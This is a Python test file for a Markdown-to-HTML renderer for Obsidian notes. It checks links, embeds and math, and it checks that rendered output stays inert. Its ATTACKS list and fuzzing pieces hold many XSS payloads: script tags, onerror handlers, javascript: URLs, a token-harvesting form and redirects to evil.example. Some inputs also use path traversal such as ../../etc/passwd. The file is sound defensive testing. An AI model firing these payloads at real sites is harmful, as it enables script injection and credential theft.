"""Rendered notes: Obsidian's Markdown as HTML, in which nothing can act."""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from html import unescape
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vaulttools.errors import BadArgument
from vaulttools.notes.links.resolution import LinkIndex
from vaulttools.notes.markdown.structure import parse
from vaulttools.server.page.addresses import Addresses
from vaulttools.server.page.rendering.note import EMBEDS, Rendering
from vaulttools.tools.base import BaseAnswer, ViewShown

FILES = {
    "Home.md": "",
    "Projects/plan.md": "---\nstatus: x\n---\n# Goals\nReach it. ^goal\n",
    "deep/1.md": "one ![[2]]\n\n![[2]]",
    "deep/2.md": "two\n\n![[3]]",
    "deep/3.md": "three\n\n![[4]]",
    "deep/4.md": "four\n\n![[5]]",
    "deep/5.md": "five",
    "ring.md": "round\n\n![[ring]]\n\n![[Home]]",
    "pic.png": "",
    "draw.svg": "",
    "doc.pdf": "",
    "a b.md": "",
}


class InMemory:
    """The files of a test."""

    def __init__(self, files: Mapping[str, str] = FILES) -> None:
        self._files = files
        self._names = LinkIndex(files)
        self.read_paths: list[str] = []

    def resolve(self, target: str, source: str) -> str | None:
        return self._names.resolve(target, source)

    def read(self, path: str, headings: Sequence[str], block: str | None, most: int = 0) -> str:
        self.read_paths.append(path)
        if headings == ("Gone",):
            raise BadArgument("Heading Gone not found")
        return self._files[path]

    def source(self, path: str) -> str:
        return self._files[path]

    def views(self, base: str) -> Sequence[ViewShown]:
        return ()

    def table(self, base: str, view: str, page: int, this: str, *, is_inline: bool) -> BaseAnswer:
        raise BadArgument("No table")


def rendered(text: str, *, here: int | None = None) -> str:
    html = Rendering(InMemory(), Addresses()).html("Home.md", text, here)
    # Every link has `rel`; blanks and line ends do not matter.
    return html.replace(' rel="noopener noreferrer"', "").strip()


def in_paragraph(text: str) -> str:
    html = rendered(text)
    assert html.startswith("<p>") and html.endswith("</p>")
    return html[3:-4]


SHOWN_MATH = '<pre class="n-math" tabindex="0"><code># b\n\n- [[plan]] \\frac</code></pre>'
SHOWN_MATH_OF_A_LINE = '<pre class="n-math" tabindex="0"><code>\\frac</code></pre>'
MISSING = '<a class="n-missing" title="No such file in the vault">{}</a>'
NOT_SHOWN = '<a class="n-missing" title="Not shown">{}</a>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        # Wikilinks
        ("[[plan]]", '<a href="/ui/note/Projects/plan.md">plan</a>'),
        ("[[own [draft]]] [[own [draft]|it]]", f"{MISSING.format('own [draft]')} {MISSING.format('it')}"),
        ("[[plan|the *plan*]]", '<a href="/ui/note/Projects/plan.md">the *plan*</a>'),
        ("[[a b]]", '<a href="/ui/note/a%20b.md">a b</a>'),
        ("[[plan#Goals]]", '<a href="/ui/note/Projects/plan.md?at=Goals#s-here">plan &gt; Goals</a>'),
        ("[[plan#^goal]]", '<a href="/ui/note/Projects/plan.md?at=%5Egoal#s-here">plan &gt; ^goal</a>'),
        ("[[gone]]", MISSING.format("gone")),
        ("[[../../etc/passwd]]", MISSING.format("../../etc/passwd")),
        ("[[.obsidian/app.json]]", MISSING.format(".obsidian/app.json")),
        ("`[[plan]]`", "<code>[[plan]]</code>"),
        (r"\[[plan]]", "[[plan]]"),
        # Markdown links
        ("[p](Projects/plan.md)", '<a href="/ui/note/Projects/plan.md">p</a>'),
        ("[p][id]\n\n[id]: Projects/plan.md", '<a href="/ui/note/Projects/plan.md">p</a>'),
        ("[p](a%20b.md)", '<a href="/ui/note/a%20b.md">p</a>'),
        ("[p](<a b.md>)", '<a href="/ui/note/a%20b.md">p</a>'),
        ("[p](Projects/plan.md#Goals)", '<a href="/ui/note/Projects/plan.md?at=Goals#s-here">p</a>'),
        ("[a](https://a.example/?b=1)", '<a href="https://a.example/?b=1" class="n-external">a</a>'),
        ("<https://a.example>", '<a href="https://a.example" class="n-external">https://a.example</a>'),
        (
            "see https://a.example/b(c), or",
            'see <a href="https://a.example/b(c)" class="n-external">https://a.example/b(c)</a>, or',
        ),
        ("[a](mailto:a@b.example)", '<a href="mailto:a@b.example" class="n-external">a</a>'),
        ("[a](javascript:alert(1))", NOT_SHOWN.format("a")),
        ("[a](JaVaScRiPt:alert)", NOT_SHOWN.format("a")),
        ("[a](data:text/html,x)", '<a class="n-missing">a</a>'),
        ("[a](obsidian://open?vault=x)", NOT_SHOWN.format("a")),
        ("[a](//evil.example/x)", NOT_SHOWN.format("a")),
        ("[a](/ui/assistant?tool=read)", MISSING.format("a")),
        # Tags
        ("#tag", '<a href="/ui/?q=tag%3A%23tag&amp;mode=obsidian" class="n-tag">#tag</a>'),
        ("x#tag #1984", "x#tag #1984"),
        ("[#a](Projects/plan.md)", '<a href="/ui/note/Projects/plan.md">#a</a>'),
        # Images and other embeds in running text
        ("![[pic.png]]", '<img src="/vault/pic.png" alt="pic.png" loading="lazy">'),
        ("![[pic.png|100x50]]", '<img src="/vault/pic.png" alt="pic.png" loading="lazy" width="100" height="50">'),
        ("![Alt](draw.svg)", '<img src="/vault/draw.svg" alt="Alt" loading="lazy">'),
        ("![[doc.pdf#page=3]]", '<a href="/ui/note/doc.pdf?at=page%3D3#s-here">doc.pdf &gt; page=3</a>'),
        ("a ![[plan]] b", 'a <a href="/ui/note/Projects/plan.md">plan</a> b'),
        ("![x](https://evil.example/x.png)", '<a href="https://evil.example/x.png" class="n-external">Image: x</a>'),
        ("![[gone.png]]", MISSING.format("gone.png")),
        # What else occurs in lines
        ("==high *and* low==", "<mark>high <em>and</em> low</mark>"),
        ("a == b == c", "a == b == c"),
        ("~~gone~~", "<s>gone</s>"),
        (
            "$a < b$ and $5 to $6",
            '<math display="inline"><mrow><mi>a</mi><mo>&lt;</mo><mi>b</mi></mrow></math> and $5 to $6',
        ),
        (r"$\frac$", r'<code class="n-math">\frac</code>'),  # it cannot be typeset
        (f"${'x' * 2001}$", f'<code class="n-math">{"x" * 2001}</code>'),
        ("a %%hidden [[plan]]%% b", "a  b"),
        ("one\ntwo", "one<br>\ntwo"),
        ("Reach it. ^goal", "Reach it. "),
    ],
)
def test_what_a_line_holds_is_rendered(text: str, html: str) -> None:
    assert in_paragraph(text) == html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        # Callouts
        (
            "> [!tip] Look *here*\n> [[plan]]",
            '<div class="n-callout n-tip">\n<p class="n-callout-title">Look <em>here</em></p>\n'
            '<p><a href="/ui/note/Projects/plan.md">plan</a></p>\n</div>',
        ),
        (
            "> [!hint]-",
            '<details class="n-callout n-tip">\n<summary class="n-callout-title">Hint</summary>\n</details>',
        ),
        (
            "> [!own]+ T\n> b",
            '<details class="n-callout n-note" open="">\n<summary class="n-callout-title">T</summary>\n<p>b</p>\n'
            "</details>",
        ),
        ("> quote", "<blockquote>\n<p>quote</p>\n</blockquote>"),
        # Tasks
        (
            "- [x] done\n- [ ] open\n- [/] half",
            '<ul>\n<li class="n-task"><span class="n-box n-done" role="img" aria-label="Done"></span> done</li>\n'
            '<li class="n-task"><span class="n-box n-open" role="img" aria-label="Open"></span> open</li>\n'
            '<li class="n-task"><span class="n-box n-other" role="img" aria-label="/">/</span> half</li>\n</ul>',
        ),
        # Comments over lines, code, math, headings
        ("a\n\n%%\nhidden\n\n# also\n%%\n\nb", "<p>a</p>\n<p>b</p>"),
        (
            "```mermaid\na-->b\n```",
            '<div class="n-code n-mermaid"><span class="n-language">mermaid</span>'
            '<pre tabindex="0"><code>a--&gt;b\n</code></pre></div>',
        ),
        (
            "$$\nx^2\n$$",
            '<div class="n-math" tabindex="0"><math display="block"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow>'
            "</math></div>",
        ),
        ("$$\n\\frac\n$$", '<pre class="n-math" tabindex="0"><code>\\frac</code></pre>'),
        ("a\n$$\n# b\n\n- [[plan]] \\frac\n$$\nb", f"<p>a</p>\n{SHOWN_MATH}\n<p>b</p>"),
        ("> $$\n> # b\n>\n> - [[plan]] \\frac\n> $$", f"<blockquote>\n{SHOWN_MATH}\n</blockquote>"),
        ("$$\n\\frac\n\n$$ or *b*", f"{SHOWN_MATH_OF_A_LINE}\n<p>or <em>b</em></p>"),
        ("$$\\frac$$\n---", f"{SHOWN_MATH_OF_A_LINE}\n<hr>"),
        ("$$\n\n# H", '<p>$$</p>\n<h1 id="s-h3">H</h1>'),
        ("---\ntags: [a]\n---\n## H", '<h2 id="s-h4">H</h2>'),
        ("# H\n[[#H]]", '<h1 id="s-h1">H</h1>\n<p><a href="#s-h1">H</a></p>'),
        # Tables
        (
            "|a|\n|-:|\n|[[plan\\|p]]|",
            '<div class="n-table" tabindex="0"><table>\n<thead>\n<tr>\n'
            '<th class="n-right">a</th>\n</tr>\n</thead>\n<tbody>\n'
            '<tr>\n<td class="n-right"><a href="/ui/note/Projects/plan.md">p</a></td>\n</tr>\n</tbody>\n</table></div>',
        ),
        # The line that is meant
        ("a\n\n- b\n- c", "<p>a</p>\n<ul>\n<li>b</li>\n<li>c</li>\n</ul>"),
    ],
)
def test_blocks_are_rendered(text: str, html: str) -> None:
    assert rendered(text) == html


def test_footnotes_are_gathered_at_the_end() -> None:
    html = rendered("a[^1] b^[inline]\n\n[^1]: the foot")
    assert [re.sub("<[^>]*>", "", each) for each in re.findall("<li.*?</li>", html, re.DOTALL)] == [
        "the foot ↩︎\n",
        "inline ↩︎\n",
    ]
    assert set(re.findall('href="#([^"]+)"', html)) == set(re.findall('id="([^"]+)"', html))


@pytest.mark.parametrize(
    ("line", "before"), [(1, "<p>a</p>"), (2, "b"), (3, "b"), (4, "c"), (6, "<div"), (9, "<div"), (99, "")]
)
def test_the_block_that_holds_the_line_meant_is_marked(line: int, before: str) -> None:
    html = rendered("a\n\n- b\n- c\n\n|x|\n|-|\n|y|\n|z|", here=line)
    _, mark, behind = html.partition('<div id="s-here" class="n-here"></div>')
    assert mark
    assert behind.removeprefix("\n").startswith(before)


def embedding(text: str, path: str = "Home.md") -> tuple[str, list[str]]:
    """The words of a page, and the notes that were read for it."""
    notes = InMemory()
    html = Rendering(notes, Addresses()).html(path, text)
    return " ".join(unescape(re.sub("<[^>]*>", " ", html)).split()), notes.read_paths


@pytest.mark.parametrize(
    ("text", "words", "read"),
    [
        ("![[plan]]", "plan Goals Reach it.", ["Projects/plan.md"]),
        ("![p](Projects/plan.md)", "plan.md Goals Reach it.", ["Projects/plan.md"]),
        ("- ![[plan#Goals]]", "plan > Goals Goals Reach it.", ["Projects/plan.md"]),
        ("![[plan#Gone]]", "plan > Gone Heading Gone not found", ["Projects/plan.md"]),
        ("![[Home]]", "Home This note is shown further up.", []),
        (
            "![[ring]]",
            "ring round ring This note is shown further up. Home This note is shown further up.",
            ["ring.md"],
        ),
        ("![[3]]", "3 three 4 four 5 five", ["deep/3.md", "deep/4.md", "deep/5.md"]),
        (
            "![[2]]",
            "2 two 3 three 4 four 5 Not shown here: the page embeds too much. Further ones may be links alone.",
            ["deep/2.md", "deep/3.md", "deep/4.md"],
        ),
    ],
)
def test_notes_are_embedded_so_deep_and_never_in_themselves(text: str, words: str, read: list[str]) -> None:
    shown, read_paths = embedding(text)
    assert (re.sub(r"\bProjects/", "", shown), read_paths) == (words, read)


def test_a_page_embeds_so_many_notes_and_says_once_that_there_are_more() -> None:
    shown, read = embedding("![[a b]]\n\n" * (EMBEDS + 5))
    assert len(read) == EMBEDS
    assert shown.count("the page embeds too much") == 1


def test_ids_of_embedded_notes_are_not_those_of_the_page() -> None:
    text = "# Goals\na[^1]\n\n[^1]: x\n\n![[other]]\n\n![[other]]"
    files = {"Home.md": text, "other.md": "# Goals\nb[^1]\n\n[^1]: y"}
    html = Rendering(InMemory(files), Addresses()).html("Home.md", text)
    ids = re.findall(' id="([^"]+)"', html)
    assert len(ids) == len(set(ids)) == 7


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # in a line: an unclosed tag is text
        ("The <script> tag\n\nnext", "<p>The &lt;script&gt; tag</p>\n<p>next</p>\n"),
        ("a <script>x</script> b\n\nnext", "<p>a  b</p>\n<p>next</p>\n"),
        ("a </script> <style> b\n\nnext", "<p>a  &lt;style&gt; b</p>\n<p>next</p>\n"),
        # in a block: only the rest of the block is hidden
        ("<div>\n<script>a\n\nnext", "<div>\n<p>next</p>\n</div>"),
        ("<div>\n<!-- a\n\nnext", "<div>\n<p>next</p>\n</div>"),
        ("<div><!--><style>a</style>b\n\nnext", "<div>b\n<p>next</p>\n</div>"),
        # such a block ends with the note, as CommonMark says
        ("before\n\n<script>\n\nnext", "<p>before</p>\n"),
        ("before\n\n<!-- a\n\nnext", "<p>before</p>\n"),
    ],
)
def test_unclosed_html_hides_its_block_and_not_the_rest_of_the_note(text: str, shown: str) -> None:
    assert Rendering(InMemory({"Home.md": text}), Addresses()).html("Home.md", text) == shown


# No browser may act on these. Each is tried in running text, and in a block of its own.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img srcset='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=token><button formaction=x>Log in</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='/ui/assistant?tool=read'>x</a>",
    "<a href='/ui/note/../assistant?tool=read'>x</a>",
    "<a href='/ui/logout'>x</a>",
    "<a href='/ui/note/%2E%2e/logout'>x</a><img src='/vault/.%2E/ui/logout'>",
    "<a href=x style='position:fixed;inset:0' class='top search' id=content onclick=alert(1)>x</a>",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
    "<video src=https://evil.example/v></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "</div></article></main><div id=content>",
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
    "<textarea><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[[plan|<img src=x onerror=alert(1)>]] [[gone"onmouseover="alert(1)]]',
    '![[pic.png|"onerror="alert(1)]]',
    '![" onerror=alert(1) x="](pic.png)',
    "#tag<img/src=x/onerror=alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    "$<script>alert(1)</script>$ and `<script>alert(1)</script>`",
    r"$\text{<img src=x onerror=alert(1)>}$ $\text{&lt;script>alert(1)&lt;/script>}$",
    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{top search}{x}$ $\id{content}{x}$",
    r"$\mathrm{</mi></math><script>alert(1)</script>}$ $\operatorname{<style>}$",
    "<div title='\n\n$x$\n\n'>$\\text{' onclick=alert(1) x='}$</div>",
    '<a title="$x$ \n\n$\\text{" onclick=alert(1) x="}$">',
    "<math><mtext><img src=x onerror=alert(1)></mtext><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<span class='n-math'><math href='javascript:alert(1)'>x</math></span>",
    "```mermaid\ngraph TD; a-->b; click a href 'javascript:alert(1)'\n</code></pre><script>alert(1)</script>\n```",
    "> [!<script>alert(1)</script>] <script>alert(1)</script>",
    '- ["] x\n- [<] <script>alert(1)</script>',
    "[^<script>]: <script>alert(1)</script>\n\n[^<script>]",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "==<script>alert(1)</script>== %%<script>%%alert(1)</script>",
    r"<a href='/ui/note/x\..\..\logout'>x</a><img src='/vault/x\..\..\ui\logout'>",
]

TAGS = {
    *("a", "abbr", "b", "blockquote", "br", "code", "details", "del", "div", "em", "h1", "h2", "hr", "img", "li"),
    *("mark", "ol", "p", "pre", "s", "section", "span", "strong", "sub", "summary", "sup"),
    *("table", "tbody", "td", "th", "thead", "tr", "ul"),
    *("math", "menclose", "mfrac", "mi", "mmultiscripts", "mn", "mo", "mover", "mpadded", "mphantom", "mprescripts"),
    *("mroot", "mrow", "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr"),
    *("munder", "munderover", "none"),
}
ATTRIBUTES = {
    *("href", "class", "id", "title", "rel", "src", "alt", "loading", "width", "height", "tabindex", "role"),
    *("aria-label", "open", "start"),
    *("accent", "accentunder", "columnalign", "columnlines", "columnspacing", "display", "displaystyle", "fence"),
    *("form", "largeop", "linethickness", "lspace", "mathcolor", "mathvariant", "maxsize", "minsize"),
    *("movablelimits", "notation", "rowlines", "rowspacing", "rspace", "scriptlevel", "separator", "stretchy"),
    "symmetric",
}


class Inert(HTMLParser):
    """Reads HTML, and finds whatever could act or be loaded from elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            stays = "/.." not in unquote(value).replace("\\", "/")  # browsers read both as the same
            is_safe = name in ATTRIBUTES
            if name == "href":
                is_safe = value.startswith(("/ui/note/", "/ui/?", "#s-", "#fn", "https://")) and stays
            elif name == "src":
                is_safe = value.startswith("/vault/") and stays
            elif name == "class":
                is_safe = all(each.startswith(("n-", "footnote")) for each in value.split())
            elif name == "id":
                is_safe = value.startswith(("s-", "fn"))
            if not is_safe:
                self.found.append(f"{name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.found.append("a comment")


def acting(html: str) -> list[str]:
    reader = Inert()
    reader.feed(html)
    reader.close()
    return [*reader.found, *reader.open]


@pytest.mark.parametrize(
    ("latex", "html"),
    [
        (r"\text{<b>&amp;}", "<mtext>&lt;b&gt;&amp;</mtext>"),
        (r"\color{red}{x}", '<mstyle mathcolor="red"><mrow><mi>x</mi></mrow></mstyle>'),
        (r"\color{url(//evil.example)}{x}", "<mstyle><mrow><mi>x</mi></mrow></mstyle>"),
        (r"\href{https://evil.example}{x}", "<mrow><mrow><mi>x</mi></mrow></mrow>"),
        (r"\hspace{99em}x", '<mspace width="99em"></mspace><mi>x</mi>'),
        (r"\hspace{1000em}x", "<mspace></mspace><mi>x</mi>"),
    ],
)
def test_a_formula_keeps_what_draws_alone(latex: str, html: str) -> None:
    assert in_paragraph(f"${latex}$") == f'<math display="inline"><mrow>{html}</mrow></math>'


def test_formulas_beyond_what_a_page_may_take_are_code() -> None:
    many = rendered("\n\n".join(f"${chr(97 + number) * 1_900}$" for number in range(12)))
    assert (many.count("<math"), many.count("<code")) == (10, 2)


def test_passages_of_a_note_are_rendered_without_anchors_and_properties() -> None:
    html = Rendering(InMemory(), Addresses()).passage("Home.md", "---\na: 1\n---\n# H\n![[plan]] $x$")
    assert "<h1>H</h1>" in html and 'href="/ui/note/Projects/plan.md"' in html and "<mi>x</mi>" in html
    assert acting(html) == [] and "Reach it" not in html


@pytest.mark.parametrize("up", ["/..", r"\..", "/%2e%2e", "%5c..", "%2F.."])
def test_a_way_out_of_its_folder_is_seen(up: str) -> None:
    for html in (f"<a href='/ui/note/x{up}/logout'>x</a>", f"<img src='/vault/x{up}/logout'>"):
        assert len(acting(html)) == 1


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "> {}", "- {}", "<div>\n{}\n</div>", "**a {}**"])
def test_nothing_in_a_note_acts(attack: str, around: str) -> None:
    assert acting(rendered(around.format(attack))) == []


LINES = st.sampled_from(
    ["$$", "$$", "$$", "> $$", "- $$", "  $$", "$$ a", "b $$", "$$c$$", "a $$ b", "`$$`", "# h", "> # q", "text", "===",
     "- # i", "", "", "~~~", "    $$", "|a|b|", "|-|-|"]
)  # fmt: skip


@given(st.lists(LINES, max_size=14).map("\n".join))
def test_a_page_and_the_index_agree_on_what_is_math(text: str) -> None:
    headings = re.findall(r'<h[1-6] id="s-h(\d+)">', rendered(text))
    assert headings == [str(heading.line) for heading in parse(text).headings]


PIECES = st.sampled_from(
    [
        *("[[", "]]", "![[", "[", "](", ")", "<", ">", '"', "'", "=", "==", "%%", "$", "$$", "`", "```\n", "\n"),
        *("\n\n", "> ", "> [!x]", "- ", "- [ ] ", "# ", "#a", "|", "|-|\n", "^", "^a", "[^1]", "[^1]: ", "*", "_"),
        *("~~", "\\", "<script>", "</script>", "<img src=", "onerror=", "<a href=", "javascript:", "<svg>"),
        *("<style>", "<!--"),
        *("\\text{", "\\frac{", "{", "}", "&", "\\\\", "<math>", "<mtext>"),
        *("plan", "pic.png", "https://a.example", "</div>", "<table>", "<details>", "-->", "x", " ", "&lt;"),
        *("\u202e", "é", "---\n", "\t", "\0"),
    ]
)


@given(st.lists(PIECES, max_size=30).map("".join), st.none() | st.integers(1, 9))
def test_nothing_acts_in_whatever_is_put_together(text: str, line: int | None) -> None:
    assert acting(rendered(text, here=line)) == []


@pytest.mark.parametrize(
    "text",
    [
        ">" * 200 + " deep",
        "- " * 200 + "deep",
        "[" * 200 + "deep" + "]" * 200,
        "".join(f"{'  ' * level}- d\n" for level in range(60)) + "deep",
    ],
)
def test_no_depth_hides_a_text(text: str) -> None:
    assert "deep" in rendered(text)


def test_a_definition_that_is_used_often_is_a_link_until_its_addresses_are_long() -> None:
    html = rendered(f"[a]: https://x.org/{'c' * 99_000}\n\n" + "[a] " * 200)
    assert html.count('href="https://x.org/c') == 20
    assert html.count("n-missing") == 180
